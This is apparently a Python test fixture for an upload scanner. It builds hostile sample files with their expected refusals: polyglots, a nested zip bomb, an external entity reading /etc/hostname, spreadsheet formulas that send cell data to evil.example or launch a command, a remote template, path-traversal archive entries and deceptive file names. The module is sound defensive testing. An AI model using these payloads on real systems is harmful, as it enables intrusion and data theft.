"""Every kind of file that strangers try, with the name it comes under and what is to become of it.

All are made by code. `outcome` is "" where the file is taken (it is what it says, whatever else was tried with it), a
reason of uploads.verdict where the worker refuses it, or "begin: …" with the code of the refusal where not one byte of
it is asked for.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.uploads import corpus
from tests.uploads.corpus import docx_file, docx_with, image, pdf
from tests.uploads.recordings import id3, id3_frame, mkv, mp3, mp4, without_tag

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
WRONG, NO_BYTES = "begin: file_wrong_type", "begin: file_empty"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
"""What scanners are tried with; harmless. In two halves, so that no scanner takes this file for it."""


@dataclass(frozen=True)
class Threat:
    what: str
    name: str
    kind: str
    """The kind its name claims; the place it is sent to takes it."""
    data: Callable[[], bytes]
    outcome: str
    shown: str = ""
    """The name it is kept under, where that is another."""


def huge_png(side: int = 65_535) -> bytes:
    """A PNG that says it has so many points on each side, and has eight rows."""
    small = corpus.png_of(side, 8)
    header = struct.pack(">LLBBBBB", side, side, 1, 0, 0, 0, 0)
    told = b"IHDR" + header
    return small[:12] + told + struct.pack(">L", zlib.crc32(told)) + small[12 + len(told) + 4 :]


def zip_of_zips(depth: int = 5) -> bytes:
    """What unpacks to a zip of zips of zips, at the bottom of each a megabyte of nothing."""
    inner = corpus.zipped({"0.dll": bytes(1_000_000)})
    for _ in range(depth):
        inner = corpus.zipped({f"lib {number:x}.zip": inner for number in range(16)})
    return inner


def many_parts(count: int = 100_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in corpus.parts_of(docx_file()).items():
            archive.writestr(name, data)
        for number in range(count):
            archive.writestr(f"word/{number}.xml", b"")
    return out.getvalue()


def spreadsheet() -> bytes:
    """A workbook with formulas that call out, under the name of a document."""
    cell = '<c t="str"><f>HYPERLINK("http://evil.example/"&amp;A1)</f></c><c><f>cmd|\'/c calc\'!A0</f></c>'
    sheet = f"<worksheet><sheetData><row>{cell * 500}</row></sheetData></worksheet>"
    types = '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.main+xml"/></Types>'
    parts = {"[Content_Types].xml": types, "xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": sheet}
    return corpus.zipped({name: text.encode() for name, text in parts.items()})


def outside_template() -> bytes:
    row = f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm"'
    told = f'<Relationships xmlns="{RELATIONSHIPS}">{row} TargetMode="External"/></Relationships>'
    return docx_with({"word/_rels/settings.xml.rels": told.encode()})


def film_with_outside_part() -> bytes:
    """Where the pictures stand is said to be elsewhere."""
    data = mp4()
    at = data.index(b"url ", data.index(b"dref")) + 7
    return data[:at] + b"\x00" + data[at + 1 :]


def film_with_attachment() -> bytes:
    """A program hung on a film, as Matroska can."""
    element = lambda ident, body: ident + (0x10000000 | len(body)).to_bytes(4, "big") + body  # noqa: E731
    told = (b"\x46\x6e", b"setup.exe"), (b"\x46\x60", b"application/octet-stream"), (b"\x46\x5c", b"MZ")
    attached = element(b"\x61\xa7", b"".join(element(*each) for each in (*told, (b"\x46\xae", b"\x01"))))
    data = mkv(options=(("live", "1"),))
    at = data.index(b"\x1f\x43\xb6\x75")
    return data[:at] + element(b"\x19\x41\xa4\x69", attached) + data[at:]


def outside_entity() -> bytes:
    told = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'
    return docx_with({corpus.DOCUMENT: told})


def climbing(name: str) -> Callable[[], bytes]:
    return lambda: docx_with({name: b"x"})


def _playlist() -> bytes:
    return corpus.MP4 + corpus.PLAYLIST


BYTES = (
    Threat("PDF and HTML at once", "a.pdf", "pdf", lambda: pdf() + corpus.HTML, "disguised"),
    Threat("PDF with a script", "a.pdf", "pdf", lambda: pdf(change=corpus.with_script), "active_content"),
    Threat("PDF with a program", "a.pdf", "pdf", lambda: pdf(change=corpus.with_attachment), "active_content"),
    Threat("picture and archive at once", "a.jpg", "jpeg", lambda: image("JPEG") + docx_file(), "disguised"),
    Threat("picture and archive, PNG", "a.png", "png", lambda: image("PNG") + docx_file(), "disguised"),
    Threat("drawing with a script", "a.png", "png", lambda: corpus.SVG, "disguised"),
    Threat("page as film", "a.mp4", "mp4", lambda: corpus.HTML, "disguised"),
    Threat("playlist as film", "a.mp4", "mp4", lambda: corpus.PLAYLIST, "wrong_type"),
    Threat("playlist within a film", "a.mp4", "mp4", _playlist, "truncated"),
    Threat("film with parts elsewhere", "a.mp4", "mp4", film_with_outside_part, "active_content"),
    Threat("film with a program", "a.mkv", "mkv", film_with_attachment, "active_content"),
    Threat(
        "five megabytes of page before the sound",
        "a.mp3",
        "mp3",
        lambda: id3(id3_frame(b"GEOB", bytes(5_000_000) + corpus.HTML)) + without_tag(mp3()),
        "disguised",
    ),
    Threat("outside entity", "a.docx", "docx", outside_entity, "active_content"),
    Threat("macro", "a.docx", "docx", lambda: docx_with({"word/vbaProject.bin": b"x"}), "active_content"),
    Threat("template from elsewhere", "a.docx", "docx", outside_template, "active_content"),
    Threat("workbook with formulas", "a.docx", "docx", spreadsheet, "wrong_type"),
    Threat("archive of archives", "a.docx", "docx", zip_of_zips, "disguised"),
    Threat(
        "archive of archives within a document",
        "a.docx",
        "docx",
        lambda: docx_with({"word/embeddings/x.zip": zip_of_zips()}),
        "active_content",
    ),
    Threat("parts over each other", "a.docx", "docx", lambda: corpus.overlapping(docx_file()), "zip_rules"),
    Threat("100,000 parts", "a.docx", "docx", many_parts, "zip_rules"),
    Threat("part that climbs out", "a.docx", "docx", climbing("../../etc/cron.d/x"), "zip_rules"),
    Threat("part from the root", "a.docx", "docx", climbing("/etc/cron.d/x"), "zip_rules"),
    Threat("part that is a link", "a.docx", "docx", lambda: docx_with({}, corpus.link), "zip_rules"),
    Threat("65,535 × 65,535 points", "a.png", "png", huge_png, "image_too_large"),
    Threat("film without its index", "a.mp4", "mp4", lambda: mp4()[: mp4().index(b"moov") - 4], "truncated"),
    Threat("film with its index at the end", "a.mp4", "mp4", mp4, ""),
    Threat("nothing", "a.pdf", "pdf", lambda: b"", NO_BYTES),
    Threat("what scanners are tried with, bare", "a.pdf", "pdf", lambda: EICAR, "wrong_type"),
    Threat("the same in a document", "a.docx", "docx", lambda: docx_with({"word/media/x.bin": EICAR}), ""),
    Threat("the same behind a PDF", "a.pdf", "pdf", lambda: pdf() + b"\n%" + EICAR, "disguised"),
    Threat("program as sound", "a.mp3", "mp3", lambda: corpus.ELF * 2000, "disguised"),
    Threat("program as document", "a.docx", "docx", lambda: corpus.EXE, "disguised"),
    Threat("locked PDF", "a.pdf", "pdf", corpus.encrypted_pdf, "encrypted"),
)

NAMES = (
    Threat("two endings", "bai.pdf.exe", "pdf", pdf, WRONG),
    Threat("two endings, the last one good", "bai.exe.pdf", "pdf", pdf, ""),
    Threat("dot at the end", "bai.pdf.", "pdf", pdf, "", "bai.pdf"),
    Threat("blank at the end", "bai.pdf ", "pdf", pdf, "", "bai.pdf"),
    Threat("device of Windows", "CON.pdf", "pdf", pdf, "", "_CON.pdf"),
    Threat("written backwards", "bai\u202efdp.exe", "pdf", pdf, WRONG),
    Threat("written backwards, good ending", "bai\u202eexe.pdf", "pdf", pdf, "", "baiexe.pdf"),
    Threat("letters with their marks apart", "Đường về.pdf", "pdf", pdf, "", "Đường về.pdf"),
    Threat("255 bytes", f"{'a' * 251}.pdf", "pdf", pdf, "", f"{'a' * 196}.pdf"),
    Threat("nothing but marks", "\u0301\u0323.pdf", "pdf", pdf, "", "tep.pdf"),
    Threat("small pictures", "🏆 giải.pdf", "pdf", pdf, ""),
    Threat("climbing out", "../../x.pdf", "pdf", pdf, "", "_.._x.pdf"),
    Threat("climbing out in code", "%2e%2e%2fx.pdf", "pdf", pdf, ""),
    Threat("nought within", "a\x00.exe\x00.pdf", "pdf", pdf, "", "a.exe.pdf"),
    Threat("ending in capitals", "BAI.PDF", "pdf", pdf, ""),
    Threat("no ending", "bai", "pdf", pdf, WRONG),
    Threat("ending that is not taken", "bai.svg", "pdf", lambda: corpus.SVG, WRONG),
    Threat("archive by its name", "bai.zip", "pdf", lambda: corpus.zipped({"a": b"b"}), WRONG),
    Threat("workbook by its name", "bai.xlsx", "docx", spreadsheet, WRONG),
)
